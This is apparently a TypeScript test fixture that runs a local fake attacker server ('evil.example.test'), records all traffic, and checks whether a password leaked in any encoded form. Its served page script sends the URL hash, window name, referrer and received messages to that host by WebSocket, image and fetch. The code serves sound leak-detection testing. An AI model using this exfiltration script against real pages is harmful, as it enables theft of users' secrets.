/** A server nobody configured that hears every byte it can get: requests, web sockets with their messages, datagrams. Its pages pass on whatever they learn. */
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import type { TestIdentity } from '../../../probes/testing/test-certificates';
import { writingsOf } from '../../../runs/testing/independent-scanner';

export interface Stranger {
  /** `https://evil.example.test:40123` */
  readonly origin: string;
  /** A UDP port of this machine. */
  readonly udpPort: number;
  /** Everything heard since `forget`, byte for byte as latin1. */
  readonly heard: () => string;
  readonly forget: () => void;
  close(): Promise<void>;
}

const name = 'evil.example.test';

/** Sends on by every way a page has what it finds in its address, its name, its referrer, and what it is told. */
const page = `<!doctype html><title>Stranger</title><script>
  const pass = (found) => {
    const p = encodeURIComponent(found);
    try { new WebSocket('wss://' + location.host + '/socket?told=' + p) } catch { }
    try { new Image().src = '/image?told=' + p } catch { }
    try { fetch('/fetch', { method: 'POST', body: 'told=' + p }) } catch { }
  };
  for (const found of [location.hash, self.name, document.referrer]) if (found) pass(found);
  onmessage = ({ data }) => pass(String(data));
</script>`;

export async function startStranger({ key, cert }: TestIdentity): Promise<Stranger> {
  let heard = '';
  const sockets = new Set<Socket>();
  const server = createServer({ key, cert }, (request, response) => {
    heard += `\n${request.method} ${request.headers.host} ${request.url}\n${request.rawHeaders.join('\n')}\n`;
    request.on('data', (data: Buffer) => (heard += data.toString('latin1')));
    request.on('end', () => {
      response.setHeader('Access-Control-Allow-Origin', '*').setHeader('Access-Control-Allow-Headers', '*');
      response.setHeader('Content-Type', request.url?.startsWith('/page') ? 'text/html' : 'text/plain');
      response.end(request.url?.startsWith('/page') ? page : 'thanks');
    });
  });
  server.on('upgrade', (request, socket) => {
    heard += `\nUPGRADE ${request.url}\n`;
    const accept = createHash('sha1').update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.on('error', () => undefined).write(`HTTP/1.1 101 Go\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    socket.on('data', (frame: Buffer) => (heard += `\nMESSAGE ${unmasked(frame)}\n`));
  });
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('error', () => socket.destroy()).on('close', () => sockets.delete(socket));
  });
  const udp = createSocket('udp4').on('message', (data) => (heard += `\nDATAGRAM ${data.toString('latin1')}\n`));
  await Promise.all([
    new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve)),
    new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve)),
  ]);
  return {
    origin: `https://${name}:${(server.address() as AddressInfo).port}`,
    udpPort: udp.address().port,
    heard: () => heard,
    forget: () => (heard = ''),
    close: () =>
      new Promise((resolve) => {
        udp.close();
        server.close(() => resolve());
        sockets.forEach((socket) => socket.destroy());
      }),
  };
}

/** A short message of a client; longer ones are not used here. */
function unmasked(frame: Buffer): string {
  const mask = frame.subarray(2, 6);
  return Buffer.from(frame.subarray(6).map((byte, index) => byte ^ (mask[index % 4] ?? 0))).toString('utf8');
}

/** Which writings of the password, or of six characters of it, stand in what was heard. */
export function leaksIn(heard: string, password: string): string[] {
  const utf8 = Buffer.from(heard, 'latin1').toString('utf8');
  const texts = [heard, utf8, percentUndone(utf8), percentUndone(percentUndone(utf8))];
  texts.push(...texts.map((text) => text.replace(/[A-Za-z0-9+/]{16,}/g, (run) => Buffer.from(run, 'base64').toString('utf8'))));
  const all = texts.join('\n');
  const backwards = [...password].reverse().join('');
  const writings = [password, password.toLowerCase(), backwards].flatMap((each) => writingsOf(each));
  const whole = writings.filter(({ bytes }) => all.includes(bytes.toString('utf8'))).map((writing) => writing.name);
  const pieces = Array.from({ length: password.length - 5 }, (_, at) => password.slice(at, at + 6)).filter((piece) => all.includes(piece));
  // The rule of its own that an attack uses: nobody can search for every rule, so it must not get that far.
  const byRule = all.includes([...password].map((sign) => sign.charCodeAt(0) + 7).join()) ? ['a rule of its own'] : [];
  return [...new Set([...whole, ...byRule, ...pieces.map(() => 'a piece')])];
}

const percentUndone = (text: string): string =>
  text.replace(/\+/g, ' ').replace(/(%[0-9a-f]{2})+/gi, (run) => Buffer.from(run.replace(/%/g, ''), 'hex').toString('utf8'));
